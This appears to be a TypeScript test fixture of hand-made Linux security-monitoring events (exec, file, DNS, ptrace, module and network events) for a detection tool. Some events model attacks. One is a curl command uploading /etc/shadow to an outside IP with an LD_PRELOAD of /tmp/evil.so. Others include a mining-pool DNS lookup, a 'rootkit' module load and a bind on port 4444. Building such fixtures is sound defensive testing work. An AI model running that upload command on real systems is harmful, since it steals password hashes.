/** A few events, told apart by their title. Each has what the tests ask for, and little else. */

const NOW = '2026-11-20T10:00:00.500000000Z';

const ROOT_USER = { uid: 0, gid: 0, user: 'root', group: 'root', euid: 0, egid: 0 };
const APP_USER = { uid: 1000, gid: 1000, user: 'app', group: 'app', euid: 1000, egid: 1000 };

const SYSTEMD = process('systemd', '/usr/lib/systemd/systemd', {
  pid: 1,
  credentials: { ...ROOT_USER, cap_effective: ['CAP_SYS_ADMIN'] },
});
const NGINX = process('nginx', '/usr/sbin/nginx', { pid: 50, ppid: 1, credentials: APP_USER });
const BASH = process('bash', '/bin/bash', {
  pid: 60,
  ppid: 50,
  credentials: APP_USER,
  argv0: '-bash',
  args: ['-c', 'id'],
});

function process(comm: string, path: string, more: object): object {
  const name = path.split('/').at(-1);
  return { comm, executable: { path, name, inode: 5, uid: 0, gid: 0, mode: 0o100755 }, ...more };
}

function context(self: object, ...ancestors: readonly object[]): object {
  return { ...self, ...(ancestors.length ? { parent: ancestors[0], ancestors } : {}) };
}

function event(title: string, name: string, body: object): object {
  return {
    title,
    agent: { rule_id: title, os: 'linux' },
    evt: { name, category: 'File Activity', outcome: 'Success' },
    date: NOW,
    ...body,
  };
}

const CURL = process('curl', '/usr/bin/curl', {
  pid: 70,
  ppid: 60,
  credentials: APP_USER,
  argv0: 'curl',
  args: ['-sS', '--upload-file', '/etc/shadow', '--max-time=5', 'http://203.0.113.9/a b.php'],
  envs: ['PATH', 'LD_PRELOAD=/tmp/evil.so'],
  exec_time: '2026-11-20T10:00:00.100000000Z',
  tty: 'pts0',
  container: { id: 'c0ffee', created_at: '2026-11-20T09:59:00.000000000Z' },
});

export const handmadeEvents: readonly object[] = [
  event('curl', 'exec', {
    file: {
      path: '/usr/bin/curl',
      name: 'curl',
      uid: 0,
      gid: 0,
      mode: 0o104755,
      package_name: 'curl',
      modification_time: '2026-11-20T10:00:00.400000000Z',
    },
    process: context(CURL, BASH, NGINX, SYSTEMD),
    container: { id: 'c0ffee', created_at: '2026-11-20T09:59:00.000000000Z' },
  }),
  event('bare', 'exec', { file: { path: '/bin/ls', name: 'ls', uid: 0, gid: 0 }, process: { pid: 80, comm: 'ls' } }),
  event('create', 'open', {
    file: {
      path: '/etc/cron.d/job',
      name: 'job',
      uid: 0,
      gid: 0,
      mode: 0o100644,
      flags: ['O_CREAT', 'O_WRONLY'],
      destination: { mode: 0o644, uid: 0, gid: 0 },
    },
    process: context(BASH, NGINX, SYSTEMD),
    syscall: { open: { path: 'job', flags: 65, mode: 0o644 } },
  }),
  event('read', 'open', {
    evt: { name: 'open', outcome: 'Refused' },
    file: { path: '/etc/shadow', name: 'shadow', uid: 0, gid: 0, mode: 0o100640, flags: ['O_RDONLY'] },
    process: context(NGINX, SYSTEMD),
  }),
  event('chmod', 'chmod', {
    evt: { name: 'chmod', outcome: 'Error' },
    file: {
      path: '/tmp/a/run.sh',
      name: 'run.sh',
      uid: 0,
      gid: 0,
      mode: 0o755,
      destination: { mode: 0o755, uid: 0, gid: 0 },
    },
    process: context(BASH, NGINX, SYSTEMD),
  }),
  event('chmod more', 'chmod', {
    file: { path: '/tmp/run', name: 'run', uid: 0, gid: 0, mode: 0o644, destination: { mode: 0o4755, uid: 0, gid: 0 } },
    process: context(SYSTEMD),
  }),
  event('dns', 'dns', {
    dns: { id: 1, question: { class: 'CLASS_INET', type: 'SRV', name: 'Pool.MineXMR.com', size: 40, count: 1 } },
    network: {
      l3_protocol: 'ETH_P_IP',
      l4_protocol: 'IP_PROTO_UDP',
      source: { ip: '10.0.0.5', port: 40000 },
      destination: { ip: '8.8.8.8', port: 53 },
      size: 80,
    },
    process: context(NGINX, SYSTEMD),
  }),
  event('setuid', 'setuid', {
    process: context(
      process('su', '/usr/bin/su', {
        pid: 90,
        credentials: { ...APP_USER, destination: { uid: 0, euid: 0, fsuid: 0, euser: 'root' } },
      }),
    ),
  }),
  event('capset', 'capset', {
    process: context(
      process('drop', '/usr/bin/drop', {
        pid: 91,
        credentials: { ...APP_USER, destination: { cap_effective: ['CAP_SYS_ADMIN', 'CAP_CHOWN'], cap_permitted: [] } },
      }),
    ),
  }),
  event('mmap', 'mmap', {
    mmap: {
      address: '0x1',
      offset: 0,
      length: 4096,
      protection: 'PROT_WRITE | PROT_EXEC',
      flags: 'MAP_PRIVATE | MAP_ANON',
    },
    process: context(NGINX, SYSTEMD),
  }),
  event('kill', 'signal', {
    signal: { type: 'SIGKILL', pid: 50, target: context(NGINX, BASH, SYSTEMD) },
    process: context(BASH, NGINX, SYSTEMD),
  }),
  event('attach', 'ptrace', {
    ptrace: { request: 'PTRACE_ATTACH', address: '0x1', tracee: context(NGINX, SYSTEMD) },
    process: context(BASH, NGINX, SYSTEMD),
  }),
  event('bpf', 'bpf', {
    bpf: {
      cmd: 'BPF_PROG_LOAD',
      program: {
        name: 'p',
        tag: 'a',
        program_type: 'BPF_PROG_TYPE_KPROBE',
        attach_type: 'BPF_CGROUP_INET_INGRESS',
        helpers: ['BPF_PROBE_READ', 'BPF_OVERRIDE_RETURN'],
      },
    },
    process: context(SYSTEMD),
  }),
  event('module', 'load_module', {
    module: { name: 'rootkit', loaded_from_memory: true, argv: ['a=1', 'b'] },
    process: context(SYSTEMD),
  }),
  event('mount', 'mount', {
    mount: {
      fs_type: 'nfs',
      'mountpoint.path': '/mnt',
      'source.path': '/export',
      mp: { path: '/export', uid: 0, gid: 0 },
      root: { path: '/mnt', uid: 0, gid: 0 },
      mount_id: 5,
      parent_mount_id: 1,
      bind_src_mount_id: 0,
      device: 1,
    },
    process: context(SYSTEMD),
  }),
  event('bind', 'bind', {
    bind: { addr: { family: 'AF_INET', ip: '0.0.0.0/32', port: 4444 } },
    process: context(NGINX, SYSTEMD),
  }),
  event('connect', 'connect', {
    connect: {
      addr: { family: 'AF_INET', ip: '8.8.4.4', port: 443 },
      hostnames: ['Evil.example.com'],
      protocol: 'IP_PROTO_TCP',
    },
    process: context(CURL, BASH, NGINX, SYSTEMD),
  }),
  event('connect inside', 'connect', {
    connect: { addr: { family: 'AF_INET', ip: '10.1.2.3', port: 80 }, hostnames: null },
    process: context(NGINX, SYSTEMD),
  }),
  event('exit', 'exit', { exit: { cause: 'SIGNALED', code: 137 }, process: context(BASH, NGINX, SYSTEMD) }),
  event('xattr', 'setxattr', {
    file: {
      path: '/a',
      name: 'a',
      uid: 0,
      gid: 0,
      destination: { attribute_name: 'user.x', attribute_namespace: 'user' },
    },
    process: context(SYSTEMD),
  }),
  { title: 'heartbeat', agent: { rule_id: 'heartbeat' }, date: NOW },
];
